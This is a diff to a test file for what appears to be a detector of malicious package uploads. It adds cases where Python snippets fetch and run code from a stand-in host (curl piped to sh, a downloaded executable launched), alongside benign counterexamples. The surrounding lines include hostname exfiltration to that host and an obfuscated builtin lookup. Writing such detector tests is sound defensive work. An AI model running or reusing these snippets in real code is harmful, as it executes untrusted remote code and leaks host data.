@@ -178,6 +178,10 @@ describe('techniques of real malicious uploads (synthetic snippets of their shap
     ['exfiltration', 'import os, base64, requests\nhost = os.uname()[1]\ndata = "a," + host\nmessage = data\nraw = message.encode("ascii")\nencoded = base64.b64encode(raw)\ntext = encoded.decode("ascii")\nrequests.get("https://x.test?q=" + text)\n'],
     // Decoded by the module's own helper before a process runs it.
     ['exec-decoded', 'import base64, os\ndef b64d(code):\n    raw = base64.b64decode(code.encode("ascii"))\n    return raw.decode("ascii")\nos.system(b64d("ZGly"))\n'],
+    // A program downloaded by curl and started; a download piped into a shell; curl's output run.
+    ['download-and-run', 'import os\nos.system(\'"curl.exe -OLJ https://x.test/raw/a.exe"\')\nos.system(\'"a.exe -w 1"\')\n'],
+    ['download-and-run', 'import subprocess\nsubprocess.run("curl -fsSL https://x.test/i | sh", shell=True)\n'],
+    ['download-and-run', 'import subprocess\nbanner = subprocess.getoutput("curl http://x.test/m.html")\nsubprocess.getoutput(str(banner))\n'],
     // A builtin's name spelled with letters picked out of other objects' text (chr, here).
     ['obfuscation', "x = ''.join(map(getattr(__builtins__, oct.__str__()[-3 << 0] + hex.__str__()[-1 << 2] + copyright.__str__()[4 << 0]), [112, 105]))\n"],
   ] as const)('%s', (label, text) => {
@@ -187,6 +191,8 @@ describe('techniques of real malicious uploads (synthetic snippets of their shap
   it.each([
     ['a request to an ordinary API', 'import requests\nresponse = requests.get("https://api.example.org/v1/status")\n'],
     ['curl fetching a file, no host data', 'import subprocess\nsubprocess.run(["curl", "-L", "-o", "data.json", "https://example.org/data.json"])\n'],
+    ['curl\'s version read and printed', 'import subprocess\nv = subprocess.check_output(["curl", "--version"])\nprint(v)\nsubprocess.run(["git", "status"])\n'],
+    ['wget saving an archive that is unpacked', 'import subprocess\nsubprocess.run(["wget", "https://x.test/src.tar.gz"])\nsubprocess.run(["tar", "xzf", "src.tar.gz"])\n'],
     ['a DNS lookup of a configured host', 'import socket\nHOST = "db.internal.example.org"\nsocket.gethostbyname(HOST)\n'],
     ['a helper that decodes data only printed', 'import base64\ndef b64d(s):\n    return base64.b64decode(s).decode()\nprint(b64d("aGk="))\n'],
     ['a helper that decodes, a process given other data', 'import base64, subprocess\ndef b64d(s):\n    return base64.b64decode(s)\nsubprocess.run(["git", "status"])\n'],
